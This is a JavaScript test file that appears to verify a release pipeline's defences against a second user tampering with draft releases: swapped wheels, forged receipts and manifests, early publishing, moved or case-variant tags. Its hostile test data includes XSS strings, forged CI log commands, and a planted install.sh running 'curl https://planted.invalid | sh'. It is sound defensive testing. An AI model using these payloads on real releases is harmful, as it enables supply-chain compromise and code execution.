// What people with other rights can change of a release while it is under way.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { sha256 } from '../stack/indexes.mjs';
import { annotationsOf } from '../stack/results.mjs';
import { until } from '../stack/laboratory.mjs';
import { assetsOf, releaseProject, releasesOf } from './release-project.mjs';
import {
  attach,
  draftOf,
  forgedReceipts,
  forgedRecord,
  manifestOf,
  organisationWithReleaser,
  ownFiles,
  plant,
  protectTags,
  strangersFiles,
} from './second-user.mjs';

const { writeProject } = await import('../../../packages/testkit/src/index.ts');

const NAME = 'edited-project';

const HOSTILE_NOTES = [
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  '<!-- repo-agent-actions:release-end --> [click](javascript:alert(3)) @everyone',
  '::error::forged ::add-mask::v',
  '##[error]forged',
  '```',
].join('\n');

/** Calls back, once for each version, while a smoke test waits for the answer. */
async function openDoorForEach(edit) {
  const done = new Map();
  const server = createServer((request, response) => {
    const version = request.url.slice(1);
    const work = done.get(version) ?? edit(version).catch((error) => error);
    done.set(version, work);
    void work.then(() => response.end('go on'));
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}/`,
    /** What came of the edit of a version: nothing, or why it could not be made. */
    cameTo: async (version) => await done.get(version),
    close() {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

const withSmokeTest = (url) => ({
  toml: '[tool.repo-agent-actions]\nsmoke-test = "smoke.py"\n',
  files: {
    'smoke.py': `import urllib.request
from importlib.metadata import version

with urllib.request.urlopen("${url}" + version("${NAME}"), timeout=120) as answer:
    assert answer.status == 200
`,
  },
});

/** What somebody does to the release of a tag, once its files are on the test index. */
const EDITS = {
  /** Other bytes under the name of the wheel. */
  async 'replaces-the-wheel'({ eve, repository, release, theirs }) {
    const wheel = release.assets.find(({ name }) => name.endsWith('.whl'));
    await eve.api.delete(`${repository.path}/releases/${release.id}/assets/${wheel.id}`);
    await attach(eve.api, repository, release.id, wheel.name, theirs[wheel.name]);
  },
  /** A second asset under the name of the sdist, beside the first one. */
  async 'doubles-the-sdist'({ eve, repository, release, theirs }) {
    const sdist = release.assets.find(({ name }) => name.endsWith('.tar.gz'));
    await attach(eve.api, repository, release.id, sdist.name, theirs[sdist.name]);
  },
  /** A wheel that installers prefer, and a script. */
  async 'adds-a-wheel'({ eve, repository, release, theirs, version }) {
    const [wheel] = Object.keys(theirs).filter((name) => name.endsWith('.whl'));
    const name = `edited_project-${version}-py313-none-manylinux_2_28_x86_64.whl`;
    await attach(eve.api, repository, release.id, name, theirs[wheel]);
    await attach(eve.api, repository, release.id, 'install.sh', 'curl https://planted.invalid | sh\n');
  },
  /** A manifest that names other files, instead of ours. */
  async 'replaces-the-manifest'({ eve, repository, release, theirs, about }) {
    const manifest = release.assets.find(({ name }) => name === 'release-manifest.json');
    await eve.api.delete(`${repository.path}/releases/${release.id}/assets/${manifest.id}`);
    const { 'release-manifest.json': text } = draftOf(theirs, about);
    await attach(eve.api, repository, release.id, 'release-manifest.json', text);
  },
  /** Published before its time, with notes of another. */
  async 'publishes-it'({ eve, repository, release }) {
    await eve.api.patch(`${repository.path}/releases/${release.id}`, {
      draft: false,
      name: 'Mine <b>now</b>',
      body: HOSTILE_NOTES,
    });
  },
  /** Receipts of uploads, and a record of a release that is done. */
  async 'adds-receipts'({ eve, repository, release, theirs, about }) {
    const { project, version } = about;
    const receipts = forgedReceipts(theirs, { project, version, index: 'https://upload.pypi.org/legacy/' });
    for (const stage of ['upload', 'verify', 'release']) {
      const name = `receipt-${stage}.json`;
      await attach(eve.api, repository, release.id, name, receipts[name]);
    }
    const record = forgedRecord(manifestOf(theirs, about), receipts);
    await attach(eve.api, repository, release.id, 'release-record.json', record);
  },
  /** Another draft in its place. */
  async 'puts-another-there'({ eve, repository, release, theirs, about }) {
    await eve.api.delete(`${repository.path}/releases/${release.id}`);
    await plant(eve, repository, { tag: about.tag, assets: draftOf(theirs, about) });
  },
  /** A release whose tag differs in case alone: Gitea takes both for the same, and refuses it. */
  async 'uses-another-case'({ eve, repository, theirs, about }) {
    const tag = about.tag.toUpperCase();
    await assert.rejects(plant(eve, repository, { tag, assets: draftOf(theirs, { ...about, tag }) }), { status: 409 });
  },
  /** The tag itself, by somebody who may push it. */
  async 'moves-the-tag'({ repository, about }) {
    await repository.git('tag', '--force', about.tag, 'HEAD~1');
    await repository.push(`+refs/tags/${about.tag}`);
  },
};

/** What a run came to, in a line. */
function outcome(kind, job, release) {
  const [said] = annotationsOf(job.log).filter((line) => line.startsWith('error:'));
  const state = release === undefined ? 'no release' : release.draft ? 'a draft' : 'a release';
  return `${kind}: ${job.result}, ${state}. ${said ?? ''}`;
}

/** Asserts that no index has any of these files. */
function assertNothingOf(files, indexes) {
  const hers = new Set(Object.values(files).map((bytes) => sha256(bytes)));
  for (const index of indexes) {
    const found = Object.entries(index.files()).filter(([, hash]) => hers.has(hash));
    assert.deepEqual(found, []);
  }
}

/** Asserts that what an index has of a version was built from the tag. */
function assertOnlyBuilt(index, version, built) {
  const there = Object.entries(index.files()).filter(([name]) => name.includes(`-${version}`));
  for (const [name, hash] of there) assert.equal(hash, sha256(built[name] ?? ''), name);
}

/** Asserts that a release that counts as done is out, whole, and has nothing of the second user's. */
async function assertOurs(release, { built, theirs, repository }) {
  assert.equal(release.draft, false);
  const ours = release.assets.filter(({ name }) => built[name] !== undefined);
  const assets = await assetsOf({ assets: ours }, repository.api);
  assert.equal(ours.length, 2, release.assets.map(({ name }) => name).join(', '));
  for (const [name, hash] of Object.entries(assets)) assert.equal(hash, sha256(built[name]), name);
  assert.ok(release.body.includes(sha256(Object.values(built)[0])), `the notes are not ours: ${release.body}`);
  const hers = new Set(Object.values(theirs).map((bytes) => sha256(bytes)));
  const all = await assetsOf({ assets: release.assets }, repository.api);
  const left = Object.entries(all).filter(([, hash]) => hers.has(hash));
  assert.deepEqual(left, [], 'files of hers are in the release that was published');
}

export const editedDraftProofs = {
  async 'draft-edited-during-the-run'(bench) {
    const { owner, eve } = await organisationWithReleaser(bench, 'edited');
    const kinds = Object.keys(EDITS);
    const planned = new Map();
    const door = await openDoorForEach((version) => planned.get(version).edit());
    try {
      const source = withSmokeTest(door.url);
      const project = await releaseProject(bench, {
        owner,
        form: 'single-job',
        settings: { 'normalize-sdist': 'true' },
        project: { name: NAME, version: '2.0.0', ...source },
      });
      const { repository, test, production } = project;
      await protectTags(project, bench);
      for (const [place, kind] of kinds.entries()) {
        const version = `2.0.${place}`;
        const tag = `v${version}`;
        await writeProject({ folder: repository.folder, name: NAME, version, ...source });
        const commit = await repository.commit(`Release ${tag}`);
        await repository.git('tag', tag);
        const theirs = strangersFiles(bench, { name: NAME, version });
        const about = { project: NAME, version, tag, commit };
        const edit = async () => {
          const release = (await releasesOf(project)).find((one) => one.tag_name === tag);
          await EDITS[kind]({ eve, repository, release, theirs, version, about });
        };
        planned.set(version, { kind, ...about, theirs, edit });
      }
      await repository.push('main');
      const own = new Map();
      for (const { version, tag } of planned.values()) own.set(version, ownFiles(bench, repository.folder, tag));
      await repository.push(...[...planned.values()].map(({ tag }) => `refs/tags/${tag}`));
      const wrong = [];
      for (const [version, { kind, tag, commit, theirs }] of planned) {
        const run = await repository.runOf(`refs/tags/${tag}`, { commit });
        const { publish } = await bench.ended(repository, run);
        const release = (await releasesOf(project)).find((one) => one.tag_name === tag);
        try {
          assert.equal(await door.cameTo(version), undefined, 'the edit itself');
          for (const index of [test, production]) assertOnlyBuilt(index, version, own.get(version));
          if (publish.result === 'success') await assertOurs(release, { built: own.get(version), theirs, repository });
          else assert.equal(publish.result, 'failure');
        } catch (error) {
          wrong.push(`${outcome(kind, publish, release)}\n${error.message}`);
          bench.say(`${kind}: ${error.message}`);
        }
        bench.say(outcome(kind, publish, release));
      }
      assert.deepEqual(wrong, []);
    } finally {
      await door.close();
    }
  },

  /** A draft for a tag that differs in case alone, from before the tag: Gitea takes both for the same. */
  async 'draft-planted-in-another-case'(bench) {
    const { owner, eve } = await organisationWithReleaser(bench, 'other-case');
    const project = await releaseProject(bench, { owner, form: 'single-job' });
    const { repository, test, production, tag, version } = project;
    await protectTags(project, bench);
    const commit = await repository.commit();
    await repository.push('main');
    const files = strangersFiles(bench, { name: 'trial-project', version });
    const assets = draftOf(files, { project: 'trial-project', version, tag, commit });
    await plant(eve, repository, { tag: tag.toUpperCase(), assets });
    await repository.git('tag', tag);
    await repository.push(`refs/tags/${tag}`);
    const run = await repository.runOf(`refs/tags/${tag}`, { commit });
    const { publish } = await bench.ended(repository, run);
    bench.say(outcome('draft-planted-in-another-case', publish, (await releasesOf(project))[0]));
    assertNothingOf(files, [test, production]);
  },

  /** Where tags are not protected, a release that is not a draft creates its tag: the run is hers, the code is not. */
  async 'tag-made-by-a-release'(bench) {
    const { owner, eve } = await organisationWithReleaser(bench, 'unprotected');
    const project = await releaseProject(bench, { owner, form: 'single-job', project: { name: 'trial-project' } });
    const { repository, test, production, tag, version } = project;
    const commit = await repository.commit();
    await repository.push('main');
    const files = strangersFiles(bench, { name: 'trial-project', version });
    const assets = draftOf(files, { project: 'trial-project', version, tag, commit });
    await plant(eve, repository, { tag, assets, draft: false });
    const run = await until('a run', async () => {
      const { workflow_runs: runs } = await repository.api.get(`${repository.path}/actions/runs?limit=50`);
      return (
        runs[0]?.id ??
        (await repository.api.get(`${repository.path}/tags`).then((tags) => (tags.length === 1 ? null : undefined)))
      );
    });
    if (run !== null) {
      const jobs = await bench.ended(repository, run);
      bench.say(outcome('tag-made-by-a-release', jobs.publish, (await releasesOf(project))[0]));
    } else bench.say('tag-made-by-a-release: no run');
    assertNothingOf(files, [test, production]);
  },
};
